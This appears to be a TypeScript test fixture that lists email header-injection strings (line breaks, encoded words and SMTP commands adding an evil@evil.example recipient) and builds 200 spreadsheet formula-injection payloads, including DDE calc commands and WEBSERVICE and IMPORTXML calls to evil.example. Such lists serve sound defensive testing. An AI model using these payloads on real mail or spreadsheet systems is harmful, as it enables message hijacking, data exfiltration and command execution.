/** Words that try to become a header, a recipient or a second block of headers. */
export const HEADER_TRICKS = [
  '\r\nBcc: evil@evil.example',
  '\nBcc: evil@evil.example',
  '\rBcc: evil@evil.example',
  '\r\n\r\n<b>other body</b>',
  '\n\nother body',
  '\0',
  '\u2028Bcc: evil@evil.example',
  '\u0085Bcc: evil@evil.example',
  '\x0b\x0cBcc: evil@evil.example',
  '嘊嘍Bcc: evil@evil.example',
  '%0d%0aBcc: evil@evil.example',
  '=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=',
  '=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=',
  ', evil@evil.example',
  '; evil@evil.example',
  '> , <evil@evil.example',
  '" <evil@evil.example>, "',
  'x: evil@evil.example;',
  '(evil@evil.example)',
  '<evil@evil.example>',
  '\\"\r\n evil@evil.example',
  '\r\nRCPT TO:<evil@evil.example>',
  '\r\n.\r\nMAIL FROM:<evil@evil.example>',
  '> NOTIFY=SUCCESS ORCPT=rfc822;evil@evil.example',
  '\r\n\tevil@evil.example',
  '@evil.example:ada@pines.example',
  ' '.repeat(1000),
  'x'.repeat(1200),
] as const

const FUNCTIONS = [
  'cmd|"/C calc"!A0',
  '1+1',
  'HYPERLINK("https://evil.example","x")',
  'SUM(1+1)*cmd|" /C calc"!A0',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example")',
  'DDE("cmd","/C calc","x")',
  'A1',
  '"=1+1"',
  '\r\n=1+1',
]
const STARTS = [...'=+-@\t\r\n\0＝＋－＠﹦﹢﹣﹫', '"=', ',=', '\r\n=', '=\t']

/** What a spreadsheet would calculate when a cell begins with it: 200 of them. */
export const FORMULAS = STARTS.flatMap((start) => FUNCTIONS.map((rest) => start + rest))
